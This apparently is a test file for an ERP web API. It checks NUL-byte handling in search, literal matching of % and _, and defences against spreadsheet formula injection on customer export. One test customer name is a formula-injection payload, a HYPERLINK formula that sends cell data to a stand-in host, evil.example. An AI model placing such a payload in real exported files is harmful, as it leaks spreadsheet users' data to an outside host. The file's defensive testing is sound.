// 列表搜索与导出: a NUL in the keyword is a 400 on every list (not a 500 from PostgreSQL); `%` and
// `_` are searched for as characters, not as LIKE wildcards; exported text that a spreadsheet
// would read as a formula is quoted with `'` (numbers and negative amounts stay as they are), and
// the quoted sheet imports back to the same text.
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { inertCell } from '../../server/platform/excel.ts';
import { createTestApp, type TestApp } from '../helpers/app.ts';
import { as, customerInput, type AuthedClient } from '../helpers/factories.ts';

let t: TestApp;
let admin: AuthedClient;

beforeAll(async () => {
  t = await createTestApp();
  admin = await as(t, 'admin');
});
afterAll(async () => t?.close());

describe('关键字搜索', () => {
  it('q=%00：每个列表都答 400 并指出 query.q，没有一个 500', async () => {
    const lists = t.api.declared.filter((r) => r.method === 'get' && !r.path.includes(':'));
    expect(lists.length).toBeGreaterThan(40);
    const answers = await Promise.all(lists.map(async (r) => [r.path, (await admin('get', `/api/v1${r.path}?q=%00`)).status] as const));
    expect(answers.filter(([, status]) => status >= 500)).toEqual([]);
    for (const path of ['/customers', '/items', '/users', '/roles', '/sales-orders', '/purchase-orders', '/audit-logs', '/attachments']) {
      const res = await admin('get', `/api/v1${path}?q=a%00b`);
      expect(res.status, path).toBe(400);
      expect(res.body.error.details[0]).toEqual({ field: 'query.q', label: '关键字', message: '关键字不能包含空字符（%00）' });
    }
  });

  it('其他文本参数里的 %00（如审计日志的 entity）：400 说明原因，不是 500', async () => {
    const res = await admin('get', '/api/v1/audit-logs?entity=a%00b');
    expect(res.status).toBe(400);
    expect(res.body.error).toMatchObject({ code: 'VALIDATION_FAILED', message: '参数包含无效字符（如空字符 %00）' });
  });

  it('% 与 _ 按字面匹配：只找到名字里真有 % 的客户；_ 一个也找不到', async () => {
    const created = await admin('post', '/api/v1/customers').send(customerInput({ name: '百分百100%纯铜配件厂' }));
    expect(created.status).toBe(201);
    const percent = await admin('get', '/api/v1/customers?q=%25');
    expect(percent.body.total).toBe(1);
    expect(percent.body.items[0].name).toBe('百分百100%纯铜配件厂');
    expect((await admin('get', '/api/v1/customers?q=_')).body.total).toBe(0);
    expect((await admin('get', '/api/v1/customers?q=100%25纯')).body.total).toBe(1);
    // lists that build their own "contains" (document numbers, audit entity ids) escape too
    // the one role whose code has a real underscore: sales_manager
    expect((await admin('get', '/api/v1/roles?q=_')).body.items.map((r: { code: string }) => r.code)).toEqual(['sales_manager']);
    for (const path of ['/users', '/items', '/sales-orders', '/purchase-orders', '/purchase-requisitions', '/audit-logs']) {
      expect((await admin('get', `/api/v1${path}?q=%25`)).body.total, `${path}?q=%`).toBe(0);
      expect((await admin('get', `/api/v1${path}?q=_`)).body.total, `${path}?q=_`).toBe(0);
    }
  });
});

describe('导出：公式注入', () => {
  it('以 = + - @ 制表符 回车 开头的文本前加 \'；数字和负数金额不变；导出的文件再导入得到原文', async () => {
    const code = 'FORMULA01';
    const name = '=HYPERLINK("http://evil.example/?x="&A1,"点我")';
    const created = await admin('post', '/api/v1/customers').send(
      customerInput({ code, name, industry: '+机械', remark: '@SUM(1+1)', address: '-2+3 号楼', latitude: '-33.868800', longitude: '151.209300', paymentTermDays: 45 }),
    );
    expect(created.status).toBe(201);
    const exported = await admin('get', `/api/v1/customers/export?q=${code}`).buffer(true).parse((res, cb) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => cb(null, Buffer.concat(chunks)));
    });
    expect(exported.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(exported.body as ArrayBuffer);
    const ws = wb.worksheets[0]!;
    const header = (ws.getRow(1).values as unknown[]).map(String);
    const cell = (h: string) => ws.getRow(2).getCell(header.indexOf(h)).value;
    expect(cell('客户名称')).toBe(`'${name}`);
    expect(cell('行业')).toBe("'+机械");
    expect(cell('备注')).toBe("'@SUM(1+1)");
    expect(cell('地址')).toBe("'-2+3 号楼");
    expect(cell('纬度(GCJ-02)')).toBe('-33.868800'); // a negative amount is not a formula
    expect(cell('账期天数')).toBe(45); // numbers stay numbers
    expect(cell('客户编码')).toBe(code);

    // the same file back: the text is what was typed, not the quoted form
    const back = await admin('post', '/api/v1/customers/import').attach('file', exported.body as Buffer, '客户.xlsx');
    expect(back.status).toBe(200);
    const row = await t.database.system.customer.findFirstOrThrow({ where: { code } });
    expect(row).toMatchObject({ name, industry: '+机械', remark: '@SUM(1+1)', address: '-2+3 号楼' });
  });

  it('规则表：哪些值加引号', () => {
    expect(['=1+1', '+1', '-x', '@a', '\tx', '\rx'].map(inertCell)).toEqual(["'=1+1", "'+1", "'-x", "'@a", "'\tx", "'\rx"]);
    expect(['-1200.50', '-5', '12', 'M8螺栓', '', '中=文'].map(inertCell)).toEqual(['-1200.50', '-5', '12', 'M8螺栓', '', '中=文']);
    expect([-3, 0, 12.5, null, true].map(inertCell)).toEqual([-3, 0, 12.5, null, true]);
  });
});
